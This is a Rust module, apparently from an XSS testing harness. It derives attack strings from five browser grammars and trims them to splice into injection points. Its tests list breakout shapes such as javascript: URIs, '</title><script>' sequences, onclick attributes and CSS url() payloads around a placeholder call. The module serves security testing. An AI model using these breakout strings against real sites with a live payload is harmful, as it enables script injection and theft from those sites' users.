//! Grammar-based attack string generation.
//!
//! Five grammars model the token sequences that make a browser hand control
//! to the JavaScript interpreter: URI attributes, CSS style values, event
//! attributes, whole HTML elements, and JavaScript expressions. Attack
//! strings are enumerated by bounded leftmost derivation, then every
//! derivation is trimmed token by token from the left and right so the
//! surviving fragment can splice into whatever text surrounds an injection
//! point. The payload placeholder renders as `attack(%L%)`; the harness
//! substitutes the sink's source line for `%L%` at write time.

use serde::Serialize;
use std::collections::HashSet;
use std::fmt;

/// Which grammar a sentence was derived from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub enum GrammarName {
    Uri,
    Css,
    Event,
    Html,
    Js,
}

impl fmt::Display for GrammarName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            GrammarName::Uri => "URI",
            GrammarName::Css => "CSS",
            GrammarName::Event => "EVENT",
            GrammarName::Html => "HTML",
            GrammarName::Js => "JS",
        })
    }
}

/// Grammar symbol. `Closure` wraps a symbol sequence repeated `min..=bound`
/// times; `Payload` is terminal-like and never expanded.
#[derive(Debug, Clone)]
pub enum Symbol {
    Terminal(&'static str),
    NonTerminal(&'static str),
    Payload,
    Closure { inner: Vec<Symbol>, min: u32, free: FreePolicy },
}

/// Redundancy policy for payload-free closure copies during corpus
/// generation. A pattern that does not carry the payload only matters when
/// it changes the parse context the payload lands in; repeating it adds
/// nothing, so at most one free copy is ever kept.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FreePolicy {
    /// One payload-free copy allowed anywhere.
    Any,
    /// No payload-free copies.
    Deny,
    /// One payload-free copy, only if it closes an enclosing raw-text
    /// element (`</textarea>`, `</title>`) and precedes the payload copy.
    RawTextCloser,
}

/// One production alternative: a sequence of symbols.
pub type Production = Vec<Symbol>;

/// A named context-free grammar without recursion.
#[derive(Debug, Clone)]
pub struct Grammar {
    pub name: GrammarName,
    pub start: &'static str,
    pub rules: Vec<(&'static str, Vec<Production>)>,
}

impl Grammar {
    pub fn alternatives(&self, nonterminal: &str) -> Option<&Vec<Production>> {
        self.rules.iter().find(|(name, _)| *name == nonterminal).map(|(_, alts)| alts)
    }

    /// Checks the structural invariants: every referenced nonterminal is
    /// defined, PAYLOAD is reachable, and no rule is recursive.
    pub fn validate(&self) -> Result<(), String> {
        for (_, alts) in &self.rules {
            for alt in alts {
                self.check_symbols(alt)?;
            }
        }
        if !self.reaches_payload(self.start, &mut Vec::new())? {
            return Err(format!("{}: PAYLOAD unreachable from {}", self.name, self.start));
        }
        Ok(())
    }

    fn check_symbols(&self, symbols: &[Symbol]) -> Result<(), String> {
        for sym in symbols {
            match sym {
                Symbol::NonTerminal(nt) => {
                    if self.alternatives(nt).is_none() {
                        return Err(format!("{}: undefined nonterminal {nt}", self.name));
                    }
                }
                Symbol::Closure { inner, .. } => self.check_symbols(inner)?,
                _ => {}
            }
        }
        Ok(())
    }

    fn reaches_payload(&self, nt: &'static str, stack: &mut Vec<&'static str>) -> Result<bool, String> {
        if stack.contains(&nt) {
            return Err(format!("{}: recursive rule {nt}", self.name));
        }
        stack.push(nt);
        let mut reached = false;
        if let Some(alts) = self.alternatives(nt) {
            for alt in alts {
                if self.seq_reaches_payload(alt, stack)? {
                    reached = true;
                }
            }
        }
        stack.pop();
        Ok(reached)
    }

    fn seq_reaches_payload(&self, symbols: &[Symbol], stack: &mut Vec<&'static str>) -> Result<bool, String> {
        let mut reached = false;
        for sym in symbols {
            match sym {
                Symbol::Payload => reached = true,
                Symbol::NonTerminal(nt) => {
                    if self.reaches_payload(nt, stack)? {
                        reached = true;
                    }
                }
                Symbol::Closure { inner, .. } => {
                    if self.seq_reaches_payload(inner, stack)? {
                        reached = true;
                    }
                }
                Symbol::Terminal(_) => {}
            }
        }
        Ok(reached)
    }
}

/// A fully derived token: either a fixed lexeme or the payload placeholder.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub enum Token {
    Lexeme(&'static str),
    Payload,
}

/// A complete derivation of a grammar's start symbol.
#[derive(Debug, Clone)]
pub struct Sentence {
    pub tokens: Vec<Token>,
    pub origin: GrammarName,
    /// Rule names in leftmost application order.
    pub derivation: Vec<&'static str>,
}

impl Sentence {
    pub fn payload_count(&self) -> usize {
        self.tokens.iter().filter(|t| matches!(t, Token::Payload)).count()
    }
}

/// One attack string: a trimmed sentence with exactly one payload.
#[derive(Debug, Clone, Serialize)]
pub struct AttackString {
    pub tokens: Vec<Token>,
    pub payload_index: usize,
    pub origin: GrammarName,
    /// (tokens removed from the left, tokens removed from the right)
    pub trim: (usize, usize),
    pub rendered: String,
}

/// Rendering configuration; the payload marker is substituted per sink.
#[derive(Debug, Clone)]
pub struct RenderRules {
    pub payload_marker: String,
}

impl Default for RenderRules {
    fn default() -> Self {
        RenderRules { payload_marker: "attack(%L%)".to_string() }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum AttackGenError {
    #[error("sentence contains no payload token")]
    NoPayload,
}

// ---------------------------------------------------------------------------
// Grammar definitions
// ---------------------------------------------------------------------------

use FreePolicy::{Any, Deny, RawTextCloser};
use Symbol::{NonTerminal as Nt, Payload, Terminal as T};

fn star(inner: Vec<Symbol>, free: FreePolicy) -> Symbol {
    Symbol::Closure { inner, min: 0, free }
}

fn plus(inner: Vec<Symbol>, free: FreePolicy) -> Symbol {
    Symbol::Closure { inner, min: 1, free }
}

const URI_HOSTS: [&str; 17] = [
    "src", "href", "codebase", "cite", "action", "background", "data", "classid", "longdesc",
    "profile", "usemap", "formaction", "icon", "manifest", "poster", "srcset", "archive",
];

const PROP_NAMES: [&str; 6] = [
    "background-image", "list-style-image", "content", "cursor", "cue-after", "cue-before",
];

fn uri_rules() -> Vec<(&'static str, Vec<Production>)> {
    vec![
        ("URIATRIB", vec![vec![Nt("URIHOST"), T("="), Nt("URIVAL")]]),
        ("URIHOST", URI_HOSTS.iter().map(|h| vec![T(*h)]).collect()),
        (
            "URIVAL",
            vec![
                vec![T("'"), Nt("URI"), T("'")],
                vec![T("\""), Nt("URI"), T("\"")],
                vec![Nt("URI")],
            ],
        ),
        ("URI", vec![vec![T("javascript:"), Payload]]),
    ]
}

/// CSS declarations carry a leading semicolon so a trimmed fragment can
/// terminate whatever property value it is injected into, exactly the shape
/// `;background-image:url('javascript:...');` needs to escape an open
/// `height:` declaration. `URIVAL_NOSQ`/`URIVAL_NODQ` keep the inner URI
/// quote different from the wrapping quote: same-quote nesting would cut the
/// attribute value short and yield a syntactically dead attack.
fn css_rules() -> Vec<(&'static str, Vec<Production>)> {
    let cssprop = |urival: &'static str| {
        vec![T(";"), Nt("PROPNAME"), T(":"), T("url("), Nt(urival), T(")"), T(";")]
    };
    vec![
        ("STYLEATRIB", vec![vec![T("style"), T("="), Nt("STYLEVAL")]]),
        (
            "STYLEVAL",
            vec![
                vec![T("'"), star(vec![Nt("CSSPROP_NOSQ")], Any), T("'")],
                vec![T("\""), star(vec![Nt("CSSPROP_NODQ")], Any), T("\"")],
                // A bare (unquoted) value must be nonempty or the attribute
                // collapses into the following one.
                vec![plus(vec![Nt("CSSPROP")], Any)],
            ],
        ),
        ("CSSPROP", vec![cssprop("URIVAL")]),
        ("CSSPROP_NOSQ", vec![cssprop("URIVAL_NOSQ")]),
        ("CSSPROP_NODQ", vec![cssprop("URIVAL_NODQ")]),
        ("PROPNAME", PROP_NAMES.iter().map(|p| vec![T(*p)]).collect()),
        (
            "URIVAL",
            vec![
                vec![T("'"), Nt("URI"), T("'")],
                vec![T("\""), Nt("URI"), T("\"")],
                vec![Nt("URI")],
            ],
        ),
        ("URIVAL_NOSQ", vec![vec![T("\""), Nt("URI"), T("\"")], vec![Nt("URI")]]),
        ("URIVAL_NODQ", vec![vec![T("'"), Nt("URI"), T("'")], vec![Nt("URI")]]),
        ("URI", vec![vec![T("javascript:"), Payload]]),
    ]
}

fn event_rules() -> Vec<(&'static str, Vec<Production>)> {
    vec![
        ("EVENTATRIB", vec![vec![Nt("EVENTNAME"), T("="), Nt("EVENTVAL")]]),
        ("EVENTNAME", vec![vec![T("onclick")]]),
        (
            "EVENTVAL",
            vec![
                vec![T("'"), Payload, T("'")],
                vec![T("\""), Payload, T("\"")],
                vec![Payload],
            ],
        ),
    ]
}

fn html_rules() -> Vec<(&'static str, Vec<Production>)> {
    let mut rules = vec![
        ("HTML", vec![vec![star(vec![Nt("ELEM")], RawTextCloser)]]),
        (
            "ELEM",
            vec![vec![Nt("IMG")], vec![Nt("STYLEELEM")], vec![Nt("SCRIPT")], vec![Nt("SPECIAL")]],
        ),
        ("IMG", vec![vec![T("<img"), star(vec![Nt("ATTRIBUTE")], Deny), T(">")]]),
        (
            "ATTRIBUTE",
            vec![vec![Nt("URIATRIB")], vec![Nt("STYLEATRIB")], vec![Nt("EVENTATRIB")]],
        ),
        (
            "STYLEELEM",
            vec![vec![T("<style>"), star(vec![Nt("CSSPROP")], Any), T("</style>")]],
        ),
        ("SCRIPT", vec![vec![T("<script>"), Payload, T("</script>")]]),
        ("SPECIAL", vec![vec![T("</textarea>")], vec![T("</title>")]]),
    ];
    rules.extend(uri_rules());
    for rule in css_rules() {
        if !rules.iter().any(|(name, _)| *name == rule.0) {
            rules.push(rule);
        }
    }
    rules.extend(event_rules());
    rules
}

/// JavaScript injection shapes. Additive expressions extend a surrounding
/// string or numeric expression; the breakout alternative closes an
/// enclosing literal, call and statement, runs the payload, and comments
/// out the dangling tail (`'); attack(); //`).
fn js_rules() -> Vec<(&'static str, Vec<Production>)> {
    vec![
        ("JSATTACK", vec![vec![Nt("ADDITIVEXP")], vec![Nt("STMTBREAK")]]),
        ("ADDITIVEXP", vec![vec![Nt("PRIMARYEXP"), Nt("ADDITIVEPART")]]),
        ("ADDITIVEPART", vec![vec![star(vec![T("+"), Nt("PRIMARYEXP")], Any)]]),
        ("PRIMARYEXP", vec![vec![Payload], vec![Nt("LITERAL")]]),
        (
            "LITERAL",
            vec![
                vec![T("\""), T("1"), T("\"")],
                vec![T("'"), T("1"), T("'")],
                vec![T("1")],
            ],
        ),
        ("STMTBREAK", vec![vec![Nt("QUOTE"), T(")"), T(";"), Payload, T(";"), T("//")]]),
        ("QUOTE", vec![vec![T("'")], vec![T("\"")]]),
    ]
}

/// Builds the five browser grammars.
pub fn build_grammars() -> Vec<Grammar> {
    vec![
        Grammar { name: GrammarName::Uri, start: "URIATRIB", rules: uri_rules() },
        Grammar { name: GrammarName::Css, start: "STYLEATRIB", rules: css_rules() },
        Grammar { name: GrammarName::Event, start: "EVENTATRIB", rules: event_rules() },
        Grammar { name: GrammarName::Html, start: "HTML", rules: html_rules() },
        Grammar { name: GrammarName::Js, start: "JSATTACK", rules: js_rules() },
    ]
}

// ---------------------------------------------------------------------------
// Derivation
// ---------------------------------------------------------------------------

#[derive(Clone)]
struct Partial {
    tokens: Vec<Token>,
    derivation: Vec<&'static str>,
    payloads: usize,
}

impl Partial {
    fn empty() -> Self {
        Partial { tokens: Vec::new(), derivation: Vec::new(), payloads: 0 }
    }

    fn join(&self, other: &Partial) -> Partial {
        let mut tokens = self.tokens.clone();
        tokens.extend_from_slice(&other.tokens);
        let mut derivation = self.derivation.clone();
        derivation.extend_from_slice(&other.derivation);
        Partial { tokens, derivation, payloads: self.payloads + other.payloads }
    }
}

#[derive(Clone, Copy, PartialEq)]
enum Mode {
    /// Every closure expansion up to the bound.
    Exhaustive,
    /// Corpus pruning: at most one payload per sentence and payload-free
    /// closure copies limited by each closure's [`FreePolicy`].
    Pruned,
}

/// Exhaustively derives all sentences of `g`, expanding every `*` closure
/// 0..=`closure_bound` times and every `+` closure 1..=`closure_bound`
/// times, in deterministic order (alternative index, then expansion count).
///
/// Intended for the standalone grammars; corpus generation over the
/// integration grammar uses the redundancy pruning of [`generate_corpus`].
pub fn derive_sentences(g: &Grammar, closure_bound: u32) -> Vec<Sentence> {
    derive(g, closure_bound, Mode::Exhaustive)
}

fn derive(g: &Grammar, bound: u32, mode: Mode) -> Vec<Sentence> {
    expand_seq(g, &[Nt(g.start)], bound, mode)
        .into_iter()
        .map(|p| Sentence { tokens: p.tokens, origin: g.name, derivation: p.derivation })
        .collect()
}

fn expand_seq(g: &Grammar, symbols: &[Symbol], bound: u32, mode: Mode) -> Vec<Partial> {
    let mut acc = vec![Partial::empty()];
    for sym in symbols {
        let parts = expand_symbol(g, sym, bound, mode);
        let mut next = Vec::with_capacity(acc.len().saturating_mul(parts.len().max(1)));
        for a in &acc {
            for p in &parts {
                if mode == Mode::Pruned && a.payloads + p.payloads > 1 {
                    continue;
                }
                next.push(a.join(p));
            }
        }
        acc = next;
    }
    acc
}

fn expand_symbol(g: &Grammar, symbol: &Symbol, bound: u32, mode: Mode) -> Vec<Partial> {
    match symbol {
        Symbol::Terminal(lex) => vec![Partial {
            tokens: vec![Token::Lexeme(lex)],
            derivation: Vec::new(),
            payloads: 0,
        }],
        Symbol::Payload => vec![Partial {
            tokens: vec![Token::Payload],
            derivation: Vec::new(),
            payloads: 1,
        }],
        Symbol::NonTerminal(nt) => {
            let alts = g
                .alternatives(nt)
                .unwrap_or_else(|| panic!("undefined nonterminal {nt} in {}", g.name));
            let mut out = Vec::new();
            for alt in alts {
                for expansion in expand_seq(g, alt, bound, mode) {
                    let mut derivation = vec![*nt];
                    derivation.extend(expansion.derivation);
                    out.push(Partial { tokens: expansion.tokens, derivation, payloads: expansion.payloads });
                }
            }
            out
        }
        Symbol::Closure { inner, min, free } => {
            let copies = expand_seq(g, inner, bound, mode);
            let mut out = Vec::new();
            for k in *min..=bound {
                let mut tuple: Vec<&Partial> = Vec::with_capacity(k as usize);
                closure_tuples(&copies, k as usize, mode, *free, &mut tuple, &mut out);
            }
            out
        }
    }
}

fn closure_tuples<'a>(
    copies: &'a [Partial],
    k: usize,
    mode: Mode,
    free: FreePolicy,
    tuple: &mut Vec<&'a Partial>,
    out: &mut Vec<Partial>,
) {
    if tuple.len() == k {
        let mut joined = Partial::empty();
        for part in tuple.iter() {
            joined = joined.join(part);
        }
        out.push(joined);
        return;
    }
    for copy in copies {
        if mode == Mode::Pruned {
            let payloads_so_far: usize = tuple.iter().map(|p| p.payloads).sum();
            if payloads_so_far + copy.payloads > 1 {
                continue;
            }
            if copy.payloads == 0 {
                let frees_so_far = tuple.iter().filter(|p| p.payloads == 0).count();
                if frees_so_far >= 1 {
                    continue;
                }
                match free {
                    FreePolicy::Deny => continue,
                    FreePolicy::Any => {}
                    FreePolicy::RawTextCloser => {
                        let is_closer = matches!(
                            copy.tokens.as_slice(),
                            [Token::Lexeme("</textarea>")] | [Token::Lexeme("</title>")]
                        );
                        // A closer only matters ahead of the payload copy.
                        if !is_closer || payloads_so_far >= 1 {
                            continue;
                        }
                    }
                }
            }
        }
        tuple.push(copy);
        closure_tuples(copies, k, mode, free, tuple, out);
        tuple.pop();
    }
}

// ---------------------------------------------------------------------------
// Trimming and rendering
// ---------------------------------------------------------------------------

/// Renders tokens with the default payload marker `attack(%L%)`.
pub fn render(tokens: &[Token]) -> String {
    render_with(tokens, &RenderRules::default())
}

/// Concatenates lexemes, inserting a single space only where two adjacent
/// lexemes would otherwise merge (both boundary characters are word
/// characters).
pub fn render_with(tokens: &[Token], rules: &RenderRules) -> String {
    let mut out = String::new();
    for token in tokens {
        let lexeme = match token {
            Token::Lexeme(l) => *l,
            Token::Payload => rules.payload_marker.as_str(),
        };
        if let (Some(prev), Some(next)) = (out.chars().last(), lexeme.chars().next()) {
            if is_word(prev) && is_word(next) {
                out.push(' ');
            }
        }
        out.push_str(lexeme);
    }
    out
}

fn is_word(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

/// Generates every left/right trim of `s`: the first token is removed
/// repeatedly until the first payload is reached (the untrimmed sentence
/// included), and each left-trim is shortened from the right until the
/// payload is the last token. Deduplicated by token sequence.
pub fn trim_variants(s: &Sentence) -> Result<Vec<AttackString>, AttackGenError> {
    trim_variants_with(s, &RenderRules::default())
}

pub fn trim_variants_with(s: &Sentence, rules: &RenderRules) -> Result<Vec<AttackString>, AttackGenError> {
    let first_payload = s
        .tokens
        .iter()
        .position(|t| matches!(t, Token::Payload))
        .ok_or(AttackGenError::NoPayload)?;
    let last_payload = s
        .tokens
        .iter()
        .rposition(|t| matches!(t, Token::Payload))
        .expect("payload found above");
    let mut seen = HashSet::new();
    let mut out = Vec::new();
    for left in 0..=first_payload {
        for right in 0..=(s.tokens.len() - 1 - last_payload) {
            let tokens = s.tokens[left..s.tokens.len() - right].to_vec();
            if !seen.insert(tokens.clone()) {
                continue;
            }
            let payload_index = first_payload - left;
            let rendered = render_with(&tokens, rules);
            out.push(AttackString {
                tokens,
                payload_index,
                origin: s.origin,
                trim: (left, right),
                rendered,
            });
        }
    }
    Ok(out)
}

/// Enumerates the full attack corpus: all five grammars derived with
/// redundancy pruning, trimmed, restricted to exactly one payload, and
/// deduplicated on rendered form. Deterministic.
pub fn generate_corpus(bound: u32, rules: &RenderRules) -> Vec<AttackString> {
    let mut seen = HashSet::new();
    let mut corpus = Vec::new();
    for grammar in build_grammars() {
        for sentence in derive(&grammar, bound, Mode::Pruned) {
            if sentence.payload_count() != 1 {
                continue;
            }
            for attack in trim_variants_with(&sentence, rules).expect("payload present") {
                if seen.insert(attack.rendered.clone()) {
                    corpus.push(attack);
                }
            }
        }
    }
    corpus
}

/// The untrimmed single-payload sentences of the integration (HTML) grammar,
/// as used for generator/evaluator cross-validation.
pub fn html_untrimmed_sentences(bound: u32) -> Vec<Sentence> {
    let grammar = build_grammars().into_iter().find(|g| g.name == GrammarName::Html).unwrap();
    derive(&grammar, bound, Mode::Pruned)
        .into_iter()
        .filter(|s| s.payload_count() == 1)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strip_ws(s: &str) -> String {
        s.chars().filter(|c| !c.is_whitespace()).collect()
    }

    fn corpus_rendered(bound: u32) -> Vec<String> {
        generate_corpus(bound, &RenderRules::default())
            .into_iter()
            .map(|a| a.rendered)
            .collect()
    }

    #[test]
    fn grammars_validate() {
        for g in build_grammars() {
            g.validate().unwrap_or_else(|e| panic!("{e}"));
        }
    }

    #[test]
    fn urihost_has_seventeen_alternatives() {
        let grammars = build_grammars();
        let uri = grammars.iter().find(|g| g.name == GrammarName::Uri).unwrap();
        assert_eq!(uri.alternatives("URIHOST").unwrap().len(), 17);
    }

    #[test]
    fn eventname_is_only_onclick() {
        let grammars = build_grammars();
        let event = grammars.iter().find(|g| g.name == GrammarName::Event).unwrap();
        let alts = event.alternatives("EVENTNAME").unwrap();
        assert_eq!(alts.len(), 1);
        assert!(matches!(alts[0].as_slice(), [Symbol::Terminal("onclick")]));
    }

    #[test]
    fn js_literal_has_three_alternatives() {
        let grammars = build_grammars();
        let js = grammars.iter().find(|g| g.name == GrammarName::Js).unwrap();
        assert_eq!(js.alternatives("LITERAL").unwrap().len(), 3);
    }

    #[test]
    fn elem_closure_gives_six_nonempty_derivations_at_bound_two() {
        let g = Grammar {
            name: GrammarName::Html,
            start: "START",
            rules: vec![
                ("START", vec![vec![star(vec![Nt("ELEM")], Any)]]),
                ("ELEM", vec![vec![T("img")], vec![T("script")]]),
            ],
        };
        let sentences = derive_sentences(&g, 2);
        let nonempty: Vec<_> = sentences.iter().filter(|s| !s.tokens.is_empty()).collect();
        assert_eq!(nonempty.len(), 6);
    }

    #[test]
    fn img_with_event_attribute_derives() {
        let sentences = html_untrimmed_sentences(2);
        let expected = vec![
            Token::Lexeme("<img"),
            Token::Lexeme("onclick"),
            Token::Lexeme("="),
            Token::Payload,
            Token::Lexeme(">"),
        ];
        assert!(sentences.iter().any(|s| s.tokens == expected));
    }

    #[test]
    fn zero_closure_expansion_gives_attributeless_img() {
        let grammars = build_grammars();
        let html = grammars.iter().find(|g| g.name == GrammarName::Html).unwrap();
        let sentences = expand_seq(html, &[Nt("IMG")], 0, Mode::Exhaustive);
        assert_eq!(sentences.len(), 1);
        assert_eq!(sentences[0].tokens, vec![Token::Lexeme("<img"), Token::Lexeme(">")]);
    }

    fn additive_example() -> Sentence {
        Sentence {
            tokens: vec![
                Token::Lexeme("\""),
                Token::Lexeme("1"),
                Token::Lexeme("\""),
                Token::Lexeme("+"),
                Token::Payload,
                Token::Lexeme("+"),
                Token::Lexeme("\""),
                Token::Lexeme("1"),
                Token::Lexeme("\""),
            ],
            origin: GrammarName::Js,
            derivation: vec![],
        }
    }

    #[test]
    fn left_trims_stop_at_first_payload() {
        let variants = trim_variants(&additive_example()).unwrap();
        let untouched_right: Vec<String> = variants
            .iter()
            .filter(|a| a.trim.1 == 0)
            .map(|a| a.rendered.clone())
            .collect();
        assert_eq!(
            untouched_right,
            vec![
                "\"1\"+attack(%L%)+\"1\"",
                "1\"+attack(%L%)+\"1\"",
                "\"+attack(%L%)+\"1\"",
                "+attack(%L%)+\"1\"",
                "attack(%L%)+\"1\"",
            ]
        );
    }

    #[test]
    fn right_trims_shorten_until_payload_is_last() {
        let variants = trim_variants(&additive_example()).unwrap();
        let from_item_three: Vec<String> = variants
            .iter()
            .filter(|a| a.trim.0 == 2 && a.trim.1 > 0)
            .map(|a| a.rendered.clone())
            .collect();
        assert_eq!(
            from_item_three,
            vec![
                "\"+attack(%L%)+\"1",
                "\"+attack(%L%)+\"",
                "\"+attack(%L%)+",
                "\"+attack(%L%)",
            ]
        );
    }

    #[test]
    fn payload_only_sentence_trims_to_itself() {
        let s = Sentence { tokens: vec![Token::Payload], origin: GrammarName::Js, derivation: vec![] };
        let variants = trim_variants(&s).unwrap();
        assert_eq!(variants.len(), 1);
        assert_eq!(variants[0].rendered, "attack(%L%)");
    }

    #[test]
    fn trim_without_payload_is_an_error() {
        let s = Sentence {
            tokens: vec![Token::Lexeme("1")],
            origin: GrammarName::Js,
            derivation: vec![],
        };
        assert!(trim_variants(&s).is_err());
    }

    #[test]
    fn render_inserts_space_only_between_word_characters() {
        let tokens = vec![
            Token::Lexeme("<img"),
            Token::Lexeme("onclick"),
            Token::Lexeme("="),
            Token::Payload,
            Token::Lexeme(">"),
        ];
        assert_eq!(render(&tokens), "<img onclick=attack(%L%)>");
        let tokens = vec![Token::Lexeme("\""), Token::Lexeme("1"), Token::Lexeme("\"")];
        assert_eq!(render(&tokens), "\"1\"");
        assert_eq!(render(&[]), "");
        let tokens = vec![Token::Lexeme("src"), Token::Lexeme("x")];
        assert_eq!(render(&tokens), "src x");
    }

    #[test]
    fn corpus_contains_the_canonical_attack_shapes() {
        let rendered: Vec<String> = corpus_rendered(2).iter().map(|s| strip_ws(s)).collect();
        for needle in [
            "'+attack(%L%)+'",
            "\"+attack(%L%)+\"",
            "');attack(%L%);//",
            ";background-image:url('javascript:attack(%L%)');",
            "</title><script>attack(%L%)</script>",
            "<imgonclick=attack(%L%)>",
            "javascript:attack(%L%)",
        ] {
            assert!(
                rendered.iter().any(|r| r == &strip_ws(needle)),
                "missing corpus entry {needle}"
            );
        }
    }

    #[test]
    fn every_corpus_entry_has_exactly_one_payload() {
        for attack in generate_corpus(2, &RenderRules::default()) {
            let payloads = attack.tokens.iter().filter(|t| matches!(t, Token::Payload)).count();
            assert_eq!(payloads, 1, "{:?}", attack.rendered);
            assert!(matches!(attack.tokens[attack.payload_index], Token::Payload));
        }
    }

    #[test]
    fn corpus_saturates_at_bound_two() {
        let two: HashSet<String> = corpus_rendered(2).into_iter().collect();
        let three: HashSet<String> = corpus_rendered(3).into_iter().collect();
        assert_eq!(two, three);
    }

    #[test]
    fn per_grammar_rendered_sets_saturate() {
        for grammar in build_grammars() {
            let set = |bound| -> HashSet<String> {
                derive(&grammar, bound, Mode::Pruned)
                    .into_iter()
                    .filter(|s| s.payload_count() == 1)
                    .flat_map(|s| trim_variants(&s).unwrap())
                    .map(|a| a.rendered)
                    .collect()
            };
            assert_eq!(set(2), set(3), "{} does not saturate", grammar.name);
        }
    }

    #[test]
    fn corpus_is_deterministic() {
        let a: Vec<String> = corpus_rendered(2);
        let b: Vec<String> = corpus_rendered(2);
        assert_eq!(a, b);
    }

    #[test]
    fn context_switch_terminals_are_never_split() {
        for attack in generate_corpus(2, &RenderRules::default()) {
            for token in &attack.tokens {
                if let Token::Lexeme(l) = token {
                    assert!(
                        !["javascript", "url", "</textarea", "</title", "<script", "</script"]
                            .contains(l),
                        "split terminal {l:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn corpus_is_reasonably_sized() {
        let corpus = generate_corpus(2, &RenderRules::default());
        assert!(corpus.len() >= 100, "only {} attack strings", corpus.len());
    }
}
